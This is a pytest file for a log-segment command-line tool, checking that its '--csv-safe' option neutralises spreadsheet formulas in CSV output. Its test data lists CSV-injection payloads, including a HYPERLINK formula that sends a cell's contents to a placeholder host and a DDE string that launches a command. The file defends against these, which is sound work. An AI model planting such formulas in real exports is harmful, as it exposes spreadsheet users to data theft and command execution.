"""`--csv-safe`: no spreadsheet takes a field of the CSV for a formula; numbers stay numbers."""

import csv
import io
from pathlib import Path

import pytest

from kseg.formats.messages import build_message
from kseg.formats.schemas import message_schema
from tests import run
from tests.log_files import NewBatch, NewRecord, write_segment

FORMULA = '=HYPERLINK("http://x/?"&A1,"y")'
FORMULAS = [
    FORMULA,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A",
]
HARMLESS = ["", "a=1", "'=1", " =1", "0", "é", "\uff1c1", "x"]


def rows(directory: Path, *arguments: str) -> list[dict[str, str]]:
    ran = run.kseg(arguments, directory)
    assert ran.status == 0
    return list(csv.DictReader(io.StringIO(ran.stdout.decode(), newline="")))


@pytest.fixture
def log(tmp_path: Path) -> Path:
    texts = [text.encode() for text in (*FORMULAS, *HARMLESS)]
    return write_segment(tmp_path / "=cmd-0", [NewBatch([NewRecord(text, text) for text in texts])])


def test_an_apostrophe_comes_before_formulas_alone(log: Path, tmp_path: Path) -> None:
    fields = ("--fields", "topic,file,offset,producerId,key,value,headers")
    shown = rows(tmp_path, "dump", "=cmd-0", "-o", "csv", "--csv-safe", *fields)
    wanted = [f"'{text}" for text in FORMULAS] + HARMLESS
    assert [(row["key"], row["value"]) for row in shown] == [(text, text) for text in wanted]
    assert {(row["producerId"], row["headers"]) for row in shown} == {("-1", "[]")}
    assert {row["file"] for row in shown} == {f"'=cmd-0/{log.name}"}
    plain = rows(tmp_path, "dump", "=cmd-0", "-o", "csv", *fields)
    assert [row["key"] for row in plain] == [*FORMULAS, *HARMLESS]
    assert {row["file"] for row in plain} == {f"=cmd-0/{log.name}"}


def test_a_topic_is_no_formula_either(tmp_path: Path) -> None:
    write_segment(tmp_path / "-2-3-0", [NewBatch([NewRecord(None, b"")])])
    (row,) = rows(tmp_path, "dump", "./-2-3-0", "-o", "csv", "--csv-safe", "--fields", "topic,partition")
    assert (row["topic"], row["partition"]) == ("'-2-3", "0")
    assert rows(tmp_path, "ls", "./-2-3-0", "-o", "csv", "--csv-safe")[0]["topic"] == "'-2-3"
    explained = ("query", 'FROM "-2-3"', "./-2-3-0", "--dry-run", "-o", "csv", "--csv-safe")
    assert rows(tmp_path, *explained)[0]["table"] == "'-2-3"


def test_decoded_texts_are_no_formulas_either(tmp_path: Path) -> None:
    write_segment(tmp_path / "t-0", [NewBatch([NewRecord(None, b"=1"), NewRecord(None, b"\xff")])])
    arguments = ("-o", "csv", "--csv-safe", "--value-decoder", "string", "--fields", "key,valueDecoded,valueError")
    shown = rows(tmp_path, "dump", "t-0", "-q", *arguments)
    assert [(row["key"], row["valueDecoded"]) for row in shown] == [("", "'=1"), ("", "")]


def test_listings_and_views_have_it_too(tmp_path: Path) -> None:
    key = {"group": FORMULA, "topic": "t", "partition": 0}
    commit = NewRecord(
        b"\0\1" + build_message(message_schema("OffsetCommitKey"), 0, key),
        b"\0\3" + build_message(message_schema("OffsetCommitValue"), 3, {"offset": -7, "metadata": "@x"}),
    )
    write_segment(tmp_path / "__consumer_offsets-0", [NewBatch([commit])])
    (row,) = rows(tmp_path, "groups", "__consumer_offsets-0", "-o", "csv", "--csv-safe")
    assert (row["group"], row["metadata"], row["offset"]) == (f"'{FORMULA}", "'@x", "-7")


@pytest.mark.parametrize("command", ["dump", "ls", "groups", "txns", "metadata"])
def test_it_is_about_csv_alone(command: str, tmp_path: Path) -> None:
    directory = {"txns": "__transaction_state-0", "metadata": "__cluster_metadata-0"}.get(
        command, "__consumer_offsets-0"
    )
    write_segment(tmp_path / directory, [])
    ran = run.kseg([command, directory, "--csv-safe"], tmp_path)
    assert (ran.status, ran.stdout) == (2, b"")
    assert ran.stderr.endswith(b"--csv-safe needs CSV; add -o csv\n")
